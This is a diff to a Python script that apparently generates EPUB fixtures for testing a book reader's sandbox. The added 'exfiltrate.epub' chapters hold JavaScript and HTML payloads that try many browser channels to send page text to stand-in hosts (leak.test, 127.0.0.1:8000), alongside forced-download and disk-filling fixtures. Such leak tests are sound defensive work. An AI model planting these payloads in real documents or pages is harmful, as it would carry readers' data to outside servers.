@@ -6,6 +6,7 @@ usage: make_books.py OUTPUT_FOLDER SECRET_FILE
 SECRET_FILE is a file outside every book that the "leaky" book tries to read.
 """
 import os
+import random
 import sys
 import zipfile
 
@@ -259,6 +260,77 @@ book("coloured.epub", [
         "<head>", "<head><style>html { background-color: rgb(240, 220, 170) }</style>")),
     ("c2.xhtml", page("Two", "<h1>Chapter two</h1><p>Plain white.</p>")),
 ])
+
+# One chapter for each way a page could carry its text out of the machine, each tagged with its name:
+# by a host name (<name>.leak.test: a DNS query, then a connection to port 80 or 443) and by an address
+# (127.0.0.1:8000/<name>). tests/support/netwatch.py watches for them.
+def attribute(markup):
+    return markup.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+def senders(name):
+    """A script that tries every channel of a document or a worker, tagged name-<channel>."""
+    return ("const s = encodeURIComponent(document.body ? document.body.textContent : 'worker');"
+            "const go = (c, f) => { for (const u of ['http://%(n)s-' + c + '.leak.test/?' + s, "
+            "'http://127.0.0.1:8000/%(n)s-' + c + '?' + s]) { try { f(u); } catch (e) {} } };"
+            "go('fetch', u => fetch(u).catch(() => {}));"
+            "go('beacon', u => navigator.sendBeacon(u, s));"
+            "go('img', u => { const i = new Image(); i.src = u; });"
+            "go('css', u => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = u;"
+            " document.head.appendChild(l); });"
+            "go('ws', u => new WebSocket(u.replace('http', 'ws')));"
+            "go('wt', u => new WebTransport(u.replace('http', 'https')).ready.catch(() => {}));"
+            "go('worker', u => new Worker('data:text/javascript,fetch(' + JSON.stringify(u) + ')'));"
+            "go('rtc', u => { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:8000'}]});"
+            " pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)); });") % {"n": name}
+
+
+LEAKS = {
+    # The page's own script, and a frame of it.
+    "page": "<script>%s</script>" % senders("page").replace("&", "&amp;").replace("<", "&lt;"),
+    # A sandboxed frame runs with an opaque origin, in a process of its own.
+    "sandboxed": '<iframe sandbox="allow-scripts" srcdoc="%s"></iframe>'
+                 % attribute("<p>frame</p><script>%s</script>" % senders("sandboxed")),
+    "sandbox-static": '<iframe sandbox="" srcdoc="%s"></iframe>' % attribute(
+        '<img src="http://sandbox-static-img.leak.test/"><img src="http://127.0.0.1:8000/sandbox-static-img">'
+        '<link rel="stylesheet" href="http://sandbox-static-css.leak.test/">'
+        '<div style="background: url(http://127.0.0.1:8000/sandbox-static-bg)">x</div>'),
+    # The browser itself fetches what speculation rules name, query and all, without any script.
+    "speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": '
+                   '["http://speculation-prefetch.leak.test/?SECRET", "http://127.0.0.1:8000/speculation-prefetch"]}],'
+                   ' "prerender": [{"source": "list", "urls": ["http://speculation-prerender.leak.test/?SECRET",'
+                   ' "http://127.0.0.1:8000/speculation-prerender"]}]}</script>'
+                   '<a href="http://speculation-link.leak.test/">a link</a>',
+    "preconnect": '<link rel="preconnect" href="http://preconnect-SECRET.leak.test/"/>'
+                  '<link rel="dns-prefetch" href="http://dns-prefetch-SECRET.leak.test/"/>'
+                  '<link rel="preconnect" href="http://127.0.0.1:8000/"/>',
+    # Navigations the request policy blocks.
+    "refresh": '<meta http-equiv="refresh" content="0; url=http://refresh.leak.test/?SECRET"/>',
+    "location": "<script>location = 'http://location.leak.test/?SECRET';</script>",
+    "form": '<form action="http://form.leak.test/" method="get"><input name="q" value="SECRET"/></form>'
+            '<script>document.forms[0].submit();</script>',
+    "ip-navigation": "<script>setTimeout(() => { location = 'http://127.0.0.1:8000/ip-navigation?SECRET'; }, 10);"
+                     "</script>",
+    # Features whose requests the browser makes on its own.
+    "payment": "<script>try { const r = new PaymentRequest([{supportedMethods: "
+               "'https://payment.leak.test/pay?SECRET'}, {supportedMethods: 'http://127.0.0.1:8000/pay'}], "
+               "{total: {label: 'x', amount: {currency: 'USD', value: '1'}}}); r.canMakePayment().catch(() => {});"
+               " r.show().catch(() => {}); } catch (e) {}</script>",
+    "fedcm": "<script>try { navigator.credentials.get({identity: {providers: [{configURL: "
+             "'https://fedcm.leak.test/config.json', clientId: 'SECRET'}]}}).catch(() => {}); } catch (e) {}</script>",
+}
+book("exfiltrate.epub", [("%s.xhtml" % name, page(name, "<p>SECRET-%s</p>%s" % (name, markup)))
+                         for name, markup in LEAKS.items()])
+
+# Ways a page starts a download: a link with download, clicked, and a frame of a binary file of the book.
+book("download.epub", [("d.xhtml", page("d", '<p>DOWNLOAD-TEXT</p><a id="a" href="data.bin" download="x.bin">x</a>'
+                                             '<iframe src="data.bin"></iframe>'
+                                             '<script>document.getElementById("a").click();</script>'))],
+     files={"OEBPS/data.bin": bytes(range(256)) * 64})
+
+# A chapter and a picture that does not compress (400 KiB): more than a nearly full disk holds.
+book("big-picture.epub", [("p.xhtml", page("p", '<p>PICTURE</p><img src="img/big.png"/>'))],
+     files={"OEBPS/img/big.png": PNG_1X1 + random.Random(7).randbytes(400 << 10)})
 
 # Names in every script and form: ids in kanji and kana, Cyrillic, with spaces, with "%" and escapes,
 # composed against decomposed (NFC / NFD), with characters the browser escapes in its names. Both
